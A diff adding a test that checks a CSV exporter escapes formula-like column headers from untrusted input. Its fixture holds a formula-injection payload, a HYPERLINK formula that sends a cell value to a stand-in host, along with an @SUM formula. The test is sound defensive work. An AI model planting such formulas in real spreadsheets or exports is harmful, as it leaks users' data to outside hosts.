@@ -163,6 +163,22 @@ def test_csv_export_neutralises_formulas(tmp_path: Path) -> None:
     assert rows[0]["slip_days"].lstrip("-").isdigit()  # numbers are left alone
 
 
+def test_csv_export_neutralises_formulas_in_attribute_names(tmp_path: Path) -> None:
+    # An attribute's header comes from the input file and heads a column of the CSV.
+    data = tmp_path / "evil.csv"
+    data.write_text(
+        'id,name,start,deadline,"=HYPERLINK(""http://x/?""&A2)",@SUM(1+1),-5\n'
+        "a,Alpha,2001,2003,v,w,x\n",
+        encoding="utf-8",
+    )
+    out = tmp_path / "m.csv"
+    assert run("export", str(data), "-o", str(out), "--as-of", "2010-01-01").returncode == 0
+    with open(out, newline="", encoding="utf-8") as handle:
+        header = next(csv.reader(handle))
+    assert header[-3:] == ['\'=HYPERLINK("http://x/?"&A2)', "'@SUM(1+1)", "-5"]
+    assert not any(h[:1] in ("=", "+", "@") for h in header)
+
+
 @pytest.mark.parametrize(
     "args",
     [
